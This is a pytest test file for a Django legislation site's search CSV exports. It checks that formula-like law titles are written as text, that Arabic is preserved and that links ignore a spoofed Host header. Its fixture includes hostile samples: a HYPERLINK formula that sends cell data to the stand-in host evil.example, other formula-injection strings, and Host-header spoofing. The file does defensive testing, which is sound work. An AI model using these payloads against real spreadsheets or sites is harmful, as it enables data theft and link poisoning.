"""The search CSV exports (public and staff) write a law title or passage a spreadsheet would run as a formula as
text (a leading apostrophe), keep Arabic intact, carry one byte-order mark, and link under SITE_URL whatever Host
the request named."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import override_settings

from legislation import services
from legislation.models import Law
from tests.legislation.helpers import staff_user
from tests.search.pages_fixtures import index_everything

pytestmark = pytest.mark.django_db

WORD = "الزنبقية"  # a word only these laws hold
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"انقر هنا")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
]  # fmt: skip
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _text(number: int) -> bytes:
    return (
        f"# قانون رقم {number} لعام 2021\n\n## المادة 1\n\n"
        f'=HYPERLINK("https://evil.example") يحظر نشر {WORD} إلا بإذن من الجهة المختصة رقم {number}.\n'
    ).encode()


@pytest.fixture
def hostile_laws() -> list[Law]:
    laws = []
    for number, title in enumerate(FORMULAS, start=1):
        law = Law.objects.create(
            title_ar=title, language="ar", kind="law", number=str(number), year=2021, published=number % 2 == 1
        )
        result = services.document_upload(law=law, stream=io.BytesIO(_text(number)), name="law.md", enqueue=False)
        services.document_process(result.document.pk)
        laws.append(law)
    index_everything()
    return laws


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf") and body.count(b"\xef\xbb\xbf") == 1
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_STARTS), row


@override_settings(ALLOWED_HOSTS=["evil.example", "testserver"])
def test_the_public_csv_writes_formulas_as_text_and_links_under_site_url(client, hostile_laws, settings) -> None:
    rows = rows_of(client.get("/search/export.csv", {"q": WORD}, headers={"host": "evil.example"}))

    assert_no_formula(rows)
    published = {law.title_ar for law in hostile_laws if law.published}
    titles = {row[0] for row in rows[1:]}
    assert {"'" + title for title in published} <= titles  # each, apostrophe first, the rest as written
    assert "'" + FORMULAS[0] in titles  # «انقر هنا»: Arabic intact inside the neutralised cell
    assert not any(title.lstrip("'") not in published for title in titles)  # drafts stay out
    passages = [row[5] for row in rows[1:] if row[5]]
    assert passages and any(WORD in passage for passage in passages)
    urls = [row[4] for row in rows[1:]]
    assert urls and all(url.startswith(settings.SITE_URL + "/") for url in urls)
    assert "evil.example/" not in "".join(urls)


@override_settings(ALLOWED_HOSTS=["evil.example", "testserver"], QANUN_TWO_FACTOR_REQUIRED=False)
def test_the_staff_csv_writes_formulas_as_text_and_links_under_site_url(client, hostile_laws, settings) -> None:
    client.force_login(staff_user("searcher", "view_law"))

    rows = rows_of(client.get("/admin/search-corpus/export.csv", {"q": WORD}, headers={"host": "evil.example"}))

    assert_no_formula(rows)
    titles = {row[0] for row in rows[1:]}
    assert {"'" + law.title_ar for law in hostile_laws} <= titles  # drafts too: staff see everything
    urls = [row[4] for row in rows[1:]]
    assert urls and all(url.startswith(settings.SITE_URL + "/") for url in urls)
